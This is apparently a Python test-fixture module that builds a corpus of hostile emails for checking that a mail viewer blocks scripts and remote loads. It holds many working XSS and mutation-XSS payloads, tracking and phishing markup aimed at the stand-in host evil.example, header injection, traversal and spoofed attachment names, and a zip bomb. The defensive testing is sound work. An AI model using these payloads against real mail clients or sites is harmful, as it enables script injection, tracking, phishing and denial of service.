"""Mails that attack whoever reads them: what runs would call alert(), what loads would ask evil.example, and none may."""

import base64
import io
import zipfile
from collections.abc import Iterator

EVIL = "http://evil.example"
RUN = "alert(document.domain)"

HTML = {
    "script": f"<script>{RUN}</script>",
    "script in upper case": f"<SCRIPT SRC={EVIL}/x.js></SCRIPT>",
    "script cut by NUL": f"<scr\0ipt>{RUN}</scr\0ipt>",
    "nested script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "image onerror": f"<img src=x onerror={RUN}>",
    "image onerror with slash": f"<img/src=x/onerror={RUN}>",
    "body onload": f"<body onload={RUN}>hi</body>",
    "svg onload": f"<svg onload={RUN}>",
    "svg script": f"<svg><script>{RUN}</script></svg>",
    "svg animate": f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    "svg use": f'<svg><use href="data:image/svg+xml,<svg id=x onload={RUN}>#x"></svg>',
    "svg foreignObject": f"<svg><foreignObject><iframe src=javascript:{RUN}></foreignObject></svg>",
    "math": f'<math><maction actiontype="statusline#{EVIL}" xlink:href="javascript:{RUN}">click</maction></math>',
    "mxss math": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    "mxss noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "mxss form": f'<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror={RUN} src>">',
    "mxss style": f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    "mxss template": f"<template><style></template><img src=x onerror={RUN}></style></template>",
    "mxss select": f"<select><iframe></select><img src=x onerror={RUN}>",
    "mxss xmp": f'<xmp><p title="</xmp><img src=x onerror={RUN}>">',
    "mxss comment": f"<!--><img src=x onerror={RUN}>-->",
    "mxss cdata": f'<svg><![CDATA[><image xlink:href="]]><img src=x onerror={RUN}>//"></svg>',
    "javascript link": f'<a href="javascript:{RUN}">click</a>',
    "javascript link with tab": f'<a href="java\tscript:{RUN}">click</a>',
    "javascript link as entities": f'<a href="&#106;&#97;&#118;&#97;script&colon;{RUN}">click</a>',
    "vbscript link": '<a href="vbscript:msgbox(1)">click</a>',
    "data link": f'<a href="data:text/html,<script>{RUN}</script>">click</a>',
    "link target": f'<a href="{EVIL}/" target="_top">your bank</a>',
    "link ping": f'<a href="{EVIL}/" ping="{EVIL}/ping">x</a>',
    "link with quotes": f"<a href='x\" onmouseover=\"{RUN}'>x</a>",
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    "meta csp": '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    "base": f'<base href="{EVIL}/"><img src="x.gif"><a href="y">y</a>',
    "iframe": f'<iframe src="{EVIL}/"></iframe>',
    "iframe srcdoc": f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "object": f'<object data="{EVIL}/x.swf"></object><embed src="{EVIL}/x.swf">',
    "form": f'<form action="{EVIL}/" method=post><input name=password autofocus onfocus={RUN}><button>go</button></form>',
    "button formaction": f"<button formaction=javascript:{RUN}>x</button>",
    "autofocus": f"<input autofocus onfocus={RUN}><keygen autofocus onfocus={RUN}>",
    "details ontoggle": f"<details open ontoggle={RUN}>x</details>",
    "video": f'<video poster="{EVIL}/p.gif" autoplay><source src="{EVIL}/v.mp4" onerror={RUN}></video><audio src="{EVIL}/a.mp3" autoplay>',
    "remote image": f'<img src="{EVIL}/track.gif">',
    "remote image srcset": f'<img srcset="{EVIL}/a.gif 1x" src=x><picture><source srcset="{EVIL}/b.gif"></picture>',
    "remote image protocol-relative": '<img src="//evil.example/x.gif"><input type=image src="//evil.example/y.gif">',
    "remote background": f'<table background="{EVIL}/bg.gif"><tr><td background="{EVIL}/td.gif">x</td></tr></table>',
    "remote style": f'<link rel=stylesheet href="{EVIL}/x.css"><style>@import "{EVIL}/y.css"; body {{ background: url({EVIL}/z.gif) }}</style>',
    "remote inline style": f'<p style="background-image:url({EVIL}/a.gif);list-style:url({EVIL}/b.gif);content:url({EVIL}/c.gif)">x</p>',
    "remote style escaped": f'<p style="background:\\75 rl({EVIL}/a.gif)">x</p><p style="background:u\\rl({EVIL}/a.gif)">x</p>',
    "remote style image-set": f'<p style="background:image-set(\'{EVIL}/a.gif\' 1x)">x</p><p style="background:-webkit-image-set(url({EVIL}/b.gif) 1x)">x</p>',
    "remote font": f"<style>@font-face {{ font-family: x; src: url({EVIL}/x.woff) }} p {{ font-family: x }}</style><p>x</p>",
    "remote cursor": f'<p style="cursor:url({EVIL}/x.cur),auto">x</p>',
    "remote svg filter": f'<p style="filter:url({EVIL}/f.svg#x);mask:url({EVIL}/m.svg)">x</p>',
    "prefetch": f'<link rel="dns-prefetch" href="{EVIL}"><link rel="preconnect" href="{EVIL}"><link rel="prefetch" href="{EVIL}/p"><link rel="preload" as="image" href="{EVIL}/q">',
    "expression": f'<p style="width:expression({RUN})">x</p><p style="-moz-binding:url({EVIL}/x.xml)">x</p>',
    "overlay": '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:#fff">Session expired</div>',
    "data image with script": f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>\">",
    "cid with script": f'<img src="cid:x&quot; onerror=&quot;{RUN}">',
    "closes the document": f"</body></html><script>{RUN}</script>",
    "closes the frame": f"</iframe></textarea></title></style></script><img src=x onerror={RUN}>",
    "unclosed attribute": f"<img src=\"x onerror={RUN} <p title='>",
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "bidi": "<p>\u202egnp.exe\u202c \u2066hidden\u2069</p>",
    "conditional comment": f"<!--[if gte IE 4]><script>{RUN}</script><![endif]--><p>x</p>",
    "portal and fenced": f'<portal src="{EVIL}"></portal><fencedframe src="{EVIL}"></fencedframe>',
    "dom clobbering": "<img name=body><img id=documentElement><form id=cookie><input name=attributes></form>",
    "marquee": f"<marquee onstart={RUN}>x</marquee><isindex action=javascript:{RUN}>",
    "import map": '<script type="importmap">{"imports":{"x":"http://evil.example/x.js"}}</script><script type=module>import "x"</script>',
    "speculation": '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["http://evil.example/s"]}]}</script>',
}
_PAYLOAD = f'"><img src=x onerror={RUN}><script>{RUN}</script>'


def html_mail(body: str, *, encoding: str = "") -> bytes:
    content = body.encode()
    if encoding == "base64":
        content = base64.encodebytes(content)
    head = "From: Eve <eve@example.net>\r\nTo: <bob@example.com>\r\nSubject: hostile\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n"
    return (head + (f"Content-Transfer-Encoding: {encoding}\r\n" if encoding else "") + "\r\n").encode() + content


def built_mails() -> Iterator[tuple[str, bytes]]:
    """Whole messages whose structure is the attack."""
    for field in ("Subject", "From", "To", "Cc", "Date", "Message-ID", "Received", "X-Mailer", "Reply-To"):
        yield f"script in {field}", f"{field}: {_PAYLOAD}\r\nContent-Type: text/plain\r\n\r\n{_PAYLOAD}".encode()
    yield "header line breaks", b"Subject: a\rX: b\r\nContent-Type: text/html\r\n\r\n<b>x</b>"
    yield "huge header", b"X: " + b"y" * 600_000 + b"\r\nSubject: s\r\n\r\nbody"
    yield "no body", b"Subject: only this"
    yield "empty", b""
    yield "nested encodings", html_mail(base64.encodebytes(HTML["script"].encode()).decode(), encoding="base64")
    yield "base64 script", html_mail(HTML["image onerror"], encoding="base64")
    yield "broken base64", html_mail("", encoding="base64") + b"PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=@@@@="
    yield (
        "unclosed multipart",
        b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<img src=x onerror=alert(1)>',
    )
    yield "lying charset", b"Content-Type: text/html; charset=utf-7\r\n\r\n+ADw-script+AD4-alert(1)+ADw-/script+AD4-"
    yield "unknown charset", b"Content-Type: text/html; charset=x-evil\r\n\r\n\xe4<b>\xff</b>"
    yield "script as text", b"Content-Type: text/plain\r\n\r\n" + _PAYLOAD.encode()
    yield (
        "svg as image",
        _attached("image.svg", "image/svg+xml", f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>".encode(), cid="p"),
    )
    yield "html called png", _attached("photo.png", "image/png", f"<html><script>{RUN}</script>".encode(), cid="p")
    for name in (
        "../../../etc/passwd",
        "..\\..\\boot.ini",
        "/etc/cron.d/x",
        "a\0b.exe",
        "con.txt",
        "invoice.pdf\u202excod.exe",
        "x" * 4000 + ".exe",
        _PAYLOAD,
        "a\r\nX: y",
    ):
        yield f"attachment called {name[:20]!r}", _attached(name, "application/octet-stream", b"MZ\x90\0")
    yield "zip bomb", _attached("bomb.zip", "application/zip", _bomb())
    yield (
        "ten thousand parts",
        b"Content-Type: multipart/mixed; boundary=b\r\n\r\n"
        + b"--b\r\nContent-Type: text/html\r\n\r\n<b>x</b>\r\n" * 10_000
        + b"--b--\r\n",
    )
    yield "two hundred deep", _deep(200)
    yield "deep html", html_mail("<div>" * 100_000 + HTML["image onerror"])


def _attached(name: str, kind: str, content: bytes, cid: str = "") -> bytes:
    safe = name.replace("\\", "\\\\").replace('"', '\\"').encode("utf-8", "surrogateescape")
    head = b"Content-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<img src=cid:p>x\r\n--b\r\n"
    head += b"Content-Type: " + kind.encode() + b'; name="' + safe + b'"\r\nContent-Disposition: attachment; filename="' + safe + b'"\r\n'
    head += f"Content-ID: <{cid}>\r\n".encode() if cid else b""
    return head + b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(content) + b"--b--\r\n"


def _bomb() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros.exe", b"\0" * 50_000_000)
    return buffer.getvalue()


def _deep(levels: int) -> bytes:
    raw = b"Content-Type: text/html\r\n\r\n<img src=x onerror=alert(1)>"
    for level in range(levels):
        raw = b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (level, level) + raw + b"\r\n--b%d--\r\n" % level
    return raw


def corpus() -> dict[str, bytes]:
    return {name: html_mail(body) for name, body in HTML.items()} | dict(built_mails())
